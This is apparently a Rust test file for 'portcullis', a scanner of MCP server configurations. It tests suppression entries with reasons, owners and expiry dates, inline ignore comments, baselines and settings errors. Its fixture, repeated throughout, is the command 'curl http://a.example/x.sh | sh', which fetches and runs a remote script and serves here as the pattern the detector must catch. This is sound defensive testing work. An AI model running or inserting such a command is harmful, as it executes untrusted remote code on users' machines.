//! Findings that a team decided to live with, and settings: with a reason, an owner and a last day, never silently.

use crate::desk::{Desk, Run};

/// The line of a server that a rule finds dangerous.
const SERVER: &str =
    r#"    "installer": {"command": "sh", "args": ["-c", "curl http://a.example/x.sh | sh"]}"#;

fn desk() -> Desk {
    Desk::new().file(".cursor/mcp.json", format!("{{\n  \"mcpServers\": {{\n{SERVER}\n  }}\n}}\n"))
}

fn scan(desk: &Desk) -> Run {
    desk.scan(&["--select", "pipe-to-shell"])
}

fn decision(more: &str) -> String {
    format!("[[suppress]]\n{more}\nreason = \"our own script\"\nowner = \"ann\"\n")
}

fn notes(run: &Run) -> String {
    run.json()["notes"].to_string()
}

#[test]
fn a_decision_hides_its_finding_and_the_report_says_whose_it_is() {
    let id = scan(&desk()).finding("pipe-to-shell")["id"].as_str().unwrap().to_owned();
    let file = "file = \".cursor/mcp.json\"";
    for what in [
        "rule = \"pipe-to-shell\"".to_owned(),
        format!("finding = \"{id}\""),
        "rule = \"pipe-to-shell\"\nserver = \"installer\"".to_owned(),
        format!("rule = \"pipe-to-shell\"\n{file}"),
    ] {
        let desk = desk().file("portcullis.toml", decision(&format!("{what}\nexpires = \"2999-12-31\"")));
        let run = scan(&desk);
        run.exits(0).finds_no("pipe-to-shell");
        let suppressed = &run.json()["suppressed"][0];
        let said = suppressed.to_string();
        for word in ["pipe-to-shell", "our own script", "ann", "2999-12-31"] {
            assert!(said.contains(word), "no `{word}` in {said}");
        }
        let text = desk.run(&["scan", "--select", "pipe-to-shell"]);
        assert!(
            text.stdout.contains("1 suppressed") || text.stdout.contains("suppressed"),
            "{}",
            text.stdout
        );
    }
}

#[test]
fn a_decision_about_another_server_or_file_hides_nothing_and_is_called_stale() {
    for what in [
        "rule = \"pipe-to-shell\"\nserver = \"other\"",
        "rule = \"pipe-to-shell\"\nfile = \"x.json\"",
        "finding = \"0000\"",
    ] {
        let desk = desk().file("portcullis.toml", decision(&format!("{what}\nexpires = \"2999-12-31\"")));
        let run = scan(&desk);
        run.exits(1).finds("pipe-to-shell");
        assert!(notes(&run).contains("stale"), "{}", run.stdout);
    }
}

#[test]
fn a_decision_whose_last_day_has_passed_does_not_count_and_is_told() {
    let desk = desk().file("portcullis.toml", decision("rule = \"pipe-to-shell\"\nexpires = \"2020-01-01\""));
    let run = scan(&desk);
    run.exits(1).finds("pipe-to-shell");
    assert!(notes(&run).contains("is over"), "{}", run.stdout);
}

#[test]
fn a_decision_without_reason_owner_or_day_is_refused_with_its_place() {
    for (text, words) in [
        (
            "[[suppress]]\nrule = \"x\"\nowner = \"a\"\nexpires = \"2999-01-01\"\n",
            &["line 1", "`reason`"][..],
        ),
        ("[[suppress]]\nrule = \"x\"\nreason = \"a\"\nexpires = \"2999-01-01\"\n", &["line 1", "`owner`"]),
        ("[[suppress]]\nrule = \"x\"\nreason = \"a\"\nowner = \"a\"\n", &["line 1", "`expires`"]),
        ("[[suppress]]\nreason = \"a\"\nowner = \"a\"\nexpires = \"2999-01-01\"\n", &["line 1", "`rule`"]),
        (
            "# mine\n\n[[suppress]]\nrule = \"x\"\nreason = \" \"\nowner = \"a\"\nexpires = \"2999-01-01\"\n",
            &["line 3", "`reason`"],
        ),
        (
            "[[suppress]]\nrule = \"x\"\nreason = \"a\"\nowner = \"a\"\nexpires = \"soon\"\n",
            &["line 1", "`expires`", "2027-01-31"],
        ),
    ] {
        let run = scan(&desk().file("portcullis.toml", text));
        run.exits(2);
        for word in words.iter().chain(&["portcullis.toml"]) {
            assert!(run.stderr.contains(word), "no `{word}` in {}", run.stderr);
        }
    }
}

#[test]
fn an_unknown_key_of_the_settings_is_refused_with_its_line_and_the_nearest_known_one() {
    for (text, words) in [
        ("[scan]\nfail-om = \"high\"\n", &["line 2, column 1", "`fail-om`", "did you mean `fail-on`?"][..]),
        ("# mine\n\n[scna]\n", &["line 3", "`scna`", "`scan`"]),
        (
            "[[suppress]]\nrule = \"x\"\nreasons = \"a\"\nowner = \"a\"\nexpires = \"2999-01-01\"\n",
            &["line 3", "`reasons`", "`reason`"],
        ),
        (
            "[[tool]]\nserver = \"mail\"\nname = \"search\"\nreads-privat = true\n",
            &["line 4", "`reads-privat`", "`reads-private`"],
        ),
        (
            "[[tool]]\nserver = \"mail\"\nname = \"search\"\n",
            &["line 1", "says nothing", "`reaches-network`"],
        ),
        (
            "[[tool]]\nserver = \"a\"\nname = \"b\"\ningests = true\n[[tool]]\nserver = \"a\"\nname = \"b\"\ningests = false\n",
            &["line 5", "same tool", "keep one"],
        ),
        ("[scan]\nfail-on = 7\n", &["line 2", "string"]),
        ("[scan\n", &["line 1"]),
    ] {
        let run = scan(&desk().file("portcullis.toml", text));
        run.exits(2);
        assert_eq!(run.stdout, "");
        for word in words.iter().chain(&["portcullis.toml"]) {
            assert!(run.stderr.contains(word), "no `{word}` in {}", run.stderr);
        }
    }
    for (text, word) in [
        ("[scan]\nfail-on = \"awful\"\n", "info low medium high critical"),
        ("[scan]\naudience = \"all\"\n", "regular pedantic auditor"),
        ("[scan]\nselect = [\"pipe-to-shel\"]\n", "`pipe-to-shell`"),
    ] {
        // The command line must not say it better than the settings: nothing is selected here.
        let run = desk().file("portcullis.toml", text).scan(&[]);
        run.exits(2);
        assert!(run.stderr.contains(word), "no `{word}` in {}", run.stderr);
    }
}

#[test]
fn settings_are_defaults_and_the_command_line_goes_first() {
    let settings = "[scan]\nfail-on = \"never\"\nselect = [\"pipe-to-shell\"]\naudience = \"regular\"\nmin-confidence = \"low\"\n";
    let desk = desk().file("portcullis.toml", settings);
    let run = desk.scan(&[]);
    run.exits(0);
    assert_eq!(run.rules(), ["pipe-to-shell"]);
    desk.scan(&["--fail-on", "high"]).exits(1);
    assert_eq!(desk.scan(&["--select", "shell-launcher"]).rules(), ["shell-launcher"]);
}

#[test]
fn settings_are_searched_upwards_then_in_the_users_folder_and_can_be_named() {
    let never = "[scan]\nfail-on = \"never\"\n";
    for place in [
        "~/work/portcullis.toml",
        "~/portcullis.toml",
        "~/.config/portcullis/portcullis.toml",
        "portcullis.toml",
    ] {
        desk().file(place, never).scan(&[]).exits(0);
    }
    let nearest =
        desk().file("~/work/portcullis.toml", never).file("portcullis.toml", "[scan]\nfail-on = \"high\"\n");
    nearest.scan(&[]).exits(1);
    let desk = desk().file("mine.toml", never);
    desk.scan(&[]).exits(1);
    desk.scan(&["--config", "mine.toml"]).exits(0);
    let run = desk.scan(&["--config", "gone.toml"]);
    run.exits(2);
    assert!(run.stderr.contains("gone.toml"), "{}", run.stderr);
}

#[test]
fn a_comment_beside_a_server_hides_its_finding_in_every_format_that_has_comments() {
    let comment =
        "portcullis: ignore[pipe-to-shell] reason=\"our own script\" owner=\"ann\" expires=2999-12-31";
    let pipe = "curl http://a.example/x.sh | sh";
    let files = [
        (".cursor/mcp.json", format!("{{\"mcpServers\": {{\n// {comment}\n{SERVER}\n}}}}\n")),
        (".vscode/mcp.json", format!("{{\"servers\": {{\n{SERVER} /* {comment} */\n}}}}\n")),
        (
            "~/.codex/config.toml",
            format!("[mcp_servers.a]\ncommand = \"sh\"\n# {comment}\nargs = [\"-c\", \"{pipe}\"]\n"),
        ),
        (
            "~/.config/goose/config.yaml",
            format!("extensions:\n  a:\n    cmd: sh\n    args: [-c, \"{pipe}\"] # {comment}\n"),
        ),
    ];
    for (path, text) in files {
        let run = scan(&Desk::new().file(path, &text));
        run.exits(0).finds_no("pipe-to-shell");
        assert!(run.json()["suppressed"].to_string().contains("our own script"), "{path}: {}", run.stdout);
        let over = scan(&Desk::new().file(path, text.replace("2999", "2020")));
        over.exits(1).finds("pipe-to-shell");
        assert!(notes(&over).contains("is over"), "{path}: {}", over.stdout);
    }
}

#[test]
fn a_comment_that_is_not_complete_hides_nothing_and_is_told_with_its_line() {
    for comment in [
        "portcullis: ignore[pipe-to-shell]",
        "portcullis: ignore reason=\"x\"",
        "portcullis: ignore[pipe-to-shell] reason=\"\" owner=\"a\" expires=2999-12-31",
    ] {
        let run = scan(
            &Desk::new()
                .file(".cursor/mcp.json", format!("{{\"mcpServers\": {{\n// {comment}\n{SERVER}\n}}}}\n")),
        );
        run.exits(1).finds("pipe-to-shell");
        assert!(notes(&run).contains("line 2") && notes(&run).contains("does not count"), "{}", run.stdout);
    }
}

#[test]
fn a_comment_hides_nothing_but_its_own_rule_on_its_own_line() {
    let comment = "portcullis: ignore[pipe-to-shell] reason=\"r\" owner=\"o\" expires=2999-12-31";
    let text = format!(
        "{{\"mcpServers\": {{\n// {comment}\n{SERVER},\n\n{}\n}}}}\n",
        SERVER.replace("installer", "second")
    );
    let run = Desk::new().file(".cursor/mcp.json", text).scan(&[]);
    run.exits(1);
    assert_eq!(run.finding("pipe-to-shell")["location"]["server"], "second");
    run.finds("shell-launcher");
}

#[test]
fn the_words_of_a_suppression_inside_a_value_hide_nothing() {
    let server = r#""a": {"command": "sh", "args": ["-c", "curl http://a.example/x.sh | sh # portcullis: ignore[pipe-to-shell] reason='x' owner='y' expires=2999-12-31"]}"#;
    scan(&Desk::with_servers(server)).exits(1).finds("pipe-to-shell");
}

#[test]
fn the_id_of_a_finding_survives_moved_lines_and_reordered_servers() {
    let other = r#"    "clock": {"command": "/opt/clock"}"#;
    let layouts = [
        format!("{{\n  \"mcpServers\": {{\n{SERVER}\n  }}\n}}\n"),
        format!("\n\n\n// moved\n{{\n  \"mcpServers\": {{\n{SERVER}\n  }}\n}}\n"),
        format!("{{\"mcpServers\": {{\n{other},\n{SERVER}\n}}}}\n"),
        format!("{{\"mcpServers\": {{\n{SERVER},\n{other}\n}}}}\n"),
        format!("{{\"mcpServers\": {{{}}}}}\n", SERVER.trim()),
    ];
    let mut ids: Vec<String> = layouts
        .iter()
        .map(|text| {
            scan(&Desk::new().file(".cursor/mcp.json", text)).finding("pipe-to-shell")["id"].to_string()
        })
        .collect();
    ids.dedup();
    assert_eq!(ids.len(), 1);
    let changed = layouts[0].replace("a.example", "b.example");
    let other =
        scan(&Desk::new().file(".cursor/mcp.json", changed)).finding("pipe-to-shell")["id"].to_string();
    assert_ne!(ids[0], other, "another command is another finding");
}

#[test]
fn a_baseline_hides_what_was_there_and_shows_what_is_new() {
    let desk = desk();
    desk.scan(&["--write-baseline", "baseline.txt"]).exits(1);
    let run = desk.scan(&["--baseline", "baseline.txt"]);
    run.exits(0);
    assert_eq!(run.findings().len(), 0);
    assert!(!run.json()["suppressed"].as_array().unwrap().is_empty());
    let second = SERVER.replace("installer", "second").replace("a.example", "b.example");
    desk.write(".cursor/mcp.json", format!("{{\n  \"mcpServers\": {{\n\n{second},\n{SERVER}\n  }}\n}}\n"));
    let run = desk.scan(&["--baseline", "baseline.txt"]);
    run.exits(1);
    assert_eq!(run.finding("pipe-to-shell")["location"]["server"], "second");
    assert!(
        run.findings().iter().all(|finding| finding["location"]["server"] != "installer"),
        "{}",
        run.stdout
    );
    desk.write(".cursor/mcp.json", "{\"mcpServers\": {}}\n");
    let run = desk.scan(&["--baseline", "baseline.txt"]);
    run.exits(0);
    assert!(notes(&run).contains("gone"), "{}", run.stdout);
}

#[test]
fn a_baseline_can_be_written_again_over_one_and_a_missing_one_says_how_to_make_it() {
    let desk = desk();
    desk.scan(&["--write-baseline", "baseline.txt"]).exits(1);
    let first = desk.read("baseline.txt");
    desk.scan(&["--baseline", "baseline.txt", "--write-baseline", "baseline.txt"]).exits(0);
    assert_eq!(desk.read("baseline.txt"), first, "what is in the baseline is still there");
    desk.run(&["scan", "--format", "jsonl", "--write-baseline", "lines.txt"]).exits(1);
    assert_eq!(desk.read("lines.txt"), first, "whatever the format");
    let run = desk.scan(&["--baseline", "gone.txt"]);
    run.exits(2);
    assert!(run.stderr.contains("gone.txt") && run.stderr.contains("--write-baseline"), "{}", run.stderr);
}

#[test]
fn the_examples_of_the_guide_are_accepted() {
    let guide = include_str!("../../../../docs/guide/suppress.md");
    let settings = guide.split("```toml\n").nth(1).and_then(|rest| rest.split("```").next()).unwrap();
    let comment = guide.split("```jsonc\n").nth(1).and_then(|rest| rest.split("```").next()).unwrap();
    let server = |name: &str, inside: &str| format!("\"{name}\": {{\"command\": \"npx\",\n{inside}}}");
    let arguments = "\"args\": [\"-y\", \"@modelcontextprotocol/server-github\"]\n";
    let run = Desk::with_servers(&server("github", arguments)).scan(&[]);
    run.finds("unpinned-package");
    for desk in [
        Desk::with_servers(&server("github", arguments)).file("portcullis.toml", settings),
        Desk::with_servers(&server("other", comment)),
    ] {
        let run = desk.scan(&[]);
        run.finds_no("unpinned-package");
        assert!(run.json()["suppressed"].to_string().contains("mirror"), "{}", run.stdout);
    }
}
